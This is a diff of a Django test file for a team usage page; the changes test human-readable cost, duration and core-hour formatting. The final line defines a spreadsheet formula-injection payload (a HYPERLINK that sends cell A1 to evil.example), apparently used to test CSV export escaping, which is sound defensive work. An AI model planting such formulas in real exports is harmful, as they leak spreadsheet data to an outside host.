@@ -3,12 +3,14 @@ only the caller's teams; bad filters 400; the CSV streamed with the same filters
 
 import csv
 import io
+import re
 from datetime import timedelta
 
 import pytest
 from django.utils import timezone
 
 from accounting.models import Record
+from core.formats import money
 from jobs.models import Outcome
 from ops import usage, views
 from pool.nodes import Capacity, register
@@ -48,7 +50,7 @@ def test_the_page_shows_my_teams_jobs_with_their_cost_and_the_totals(me, team, h
     assert "red good" in page and "red bad" in page and "blue secret" not in page
     records = Record.objects.filter(team=team)
     total = sum(r.cost for r in records)
-    assert f'<dd id="total-cost">{total:.2f}</dd>' in page
+    assert f'<dd id="total-cost" title="exact: {total}">{money(total, "EUR")}</dd>' in page
     assert '<dd id="total-jobs">2</dd>' in page
     assert "Core-hours held per day" in page and "<rect" in page  # the chart, drawn on the server
     assert "<script>" not in page and "style=" not in page  # the CSP allows neither inline
@@ -132,9 +134,26 @@ def test_the_totals_add_the_kept_days_to_todays_records(me, member, team, node):
     page = me.get("/usage/").content.decode()
 
     total = sum(r.cost for r in Record.objects.filter(team=team))
-    assert f'<dd id="total-cost">{total:.2f}</dd>' in page
+    assert f'<dd id="total-cost" title="exact: {total}">{money(total, "EUR")}</dd>' in page
     assert '<dd id="total-jobs">2</dd>' in page and '<dd id="total-jobs">1</dd>' in first
-    assert "3.00 h" in page  # held: 2 h then 1 h
+    assert '<dd id="total-held">3 h 00 m</dd>' in page  # held: 2 h then 1 h
+
+
+def test_every_number_on_the_page_is_written_for_people(me, member, team, node):
+    released_job(member, team, name="big", cpus=2, held_for=timedelta(hours=2))
+    released_job(member, team, name="oom", outcome=Outcome.OUT_OF_MEMORY, exit_code=137)
+
+    page = me.get("/usage/").content.decode()
+
+    assert '<dd id="total-held">3 h 00 m</dd>' in page
+    assert '<dd id="total-core-hours">5.00 core-hours</dd>' in page  # 2 cores × 2 h + 1 core × 1 h
+    assert '<dd id="total-cpu">2 m 00 s</dd>' in page  # 60 cpu-seconds each
+    assert ">out of memory</span>" in page and "out_of_memory</span>" not in page
+    assert "2 cores ·" in page and "1 core ·" in page and "1 cores" not in page
+    assert '<td data-label="Held" class="nowrap">2 h 00 m</td>' in page
+    assert '<td data-label="CPU time" class="nowrap">1 m 00 s</td>' in page
+    costs = re.findall(r'<td data-label="Cost" class="nowrap" title="exact: [0-9.]+">([^<]+)</td>', page)
+    assert len(costs) == 2 and all(re.fullmatch(r"(\d+\.\d\d|less than 0\.01) EUR", c) for c in costs), costs
 
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
